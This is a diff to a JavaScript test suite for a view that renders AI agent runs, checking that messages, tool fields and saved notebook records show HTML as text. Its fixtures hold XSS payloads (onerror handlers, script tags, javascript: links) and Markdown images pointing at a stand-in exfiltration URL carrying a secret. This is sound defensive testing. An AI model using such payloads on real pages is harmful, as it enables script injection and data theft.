@@ -137,17 +137,41 @@ test("streamed text renders as Markdown, re-rendered at most about ten times a s
   assert.equal(body.querySelectorAll("li").length, 40, "the last text is always rendered");
 });
 
-test("a message's unsanitised HTML never reaches the page", async () => {
+test("a message's HTML is shown as text and its images as links: the view runs and fetches nothing", async () => {
   await shown(fakeHost());
   const listener = hub.listeners.get(RUN);
   listener.onEvent(event("message.started", { message_id: "m1" }));
-  listener.onEvent(event("text.delta", { message_id: "m1", delta: '<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=2</script>[x](javascript:alert(1))' }));
+  listener.onEvent(event("text.delta", {
+    message_id: "m1",
+    delta: '<img src=x onerror="globalThis.pwned=1"><script>globalThis.pwned=2</script>[x](javascript:alert(1)) ![chart](http://127.0.0.1:9/exfil?secret=x)',
+  }));
   listener.onEvent(event("message.completed", { message_id: "m1" }));
   await sleep(30);
   const body = el.querySelector(".agentruns-markdown");
-  assert.equal(body.querySelector("script"), null);
-  assert.equal(body.querySelector("img").getAttribute("onerror"), null);
-  assert.equal(body.querySelector("a").hasAttribute("href"), false);
+  assert.equal(body.querySelector("script, img"), null);
+  assert.match(body.textContent, /<img src=x onerror="globalThis.pwned=1"><script>/);
+  const [script, image] = body.querySelectorAll("a");
+  assert.equal(script.hasAttribute("href"), false);
+  assert.equal(image.textContent, "chart");
+  assert.equal(image.getAttribute("href"), "http://127.0.0.1:9/exfil?secret=x");
+});
+
+test("every field a run holds is shown as text: tools, questions, errors and usage", async () => {
+  const hostile = '<img src="http://127.0.0.1:9/x" onerror="globalThis.pwned=1"> ![i](http://127.0.0.1:9/y)';
+  const snapshot = {
+    messages: [],
+    tools: [
+      { call_id: "c1", name: hostile, args: { q: hostile }, status: "failed", result: null, error: { type: hostile, message: hostile } },
+      { call_id: "c2", name: "lookup", args: {}, status: "completed", result: hostile },
+    ],
+    inputs: [{ request_id: "in_a", kind: "choice", title: hostile, details: hostile, choices: [hostile, "no"], status: "open", choice: null }],
+    progress: { fraction: 0.5, message: hostile },
+    usage: { input_tokens: hostile, output_tokens: 3 },
+  };
+  await shown(fakeHost(), runObject({ agent: hostile, status: "failed", error: { type: hostile, message: hostile }, snapshot }));
+  assert.equal(el.querySelector("img, script, iframe, svg"), null);
+  assert.ok(el.textContent.includes('<img src="http://127.0.0.1:9/x" onerror="globalThis.pwned=1">'));
+  assert.equal(text(".agentruns-input-title"), hostile);
 });
 
 test("a very long text is shown as plain text", async () => {
@@ -297,6 +321,19 @@ test("a run the server does not have shows the notebook's saved record and says 
   assert.equal(text(".agentruns-chip"), "run not found");
   assert.equal(el.querySelector(".agentruns-record h1").textContent, "The answer");
   assert.match(text(".agentruns-notice"), /no run run_view.*record saved in the notebook/);
+});
+
+test("a saved record, whoever wrote the notebook, shows its HTML as text and its images as links", async () => {
+  const host = fakeHost();
+  host.record = '**demo** failed\n\n<img src=x onerror="globalThis.pwned=1"> ![i](http://127.0.0.1:9/exfil?secret=x)\n\n<sub>run `run_view`</sub>\n';
+  fakeServer({});
+  view = new RunView(host, el);
+  view.attach(RUN);
+  await sleep(40);
+  const record = el.querySelector(".agentruns-record");
+  assert.equal(record.querySelector("img, sub"), null);
+  assert.match(record.textContent, /<img src=x onerror="globalThis.pwned=1">/);
+  assert.equal(record.querySelector("a").getAttribute("href"), "http://127.0.0.1:9/exfil?secret=x");
 });
 
 test("Run again posts retry_of with one Idempotency-Key until the server answers", async () => {
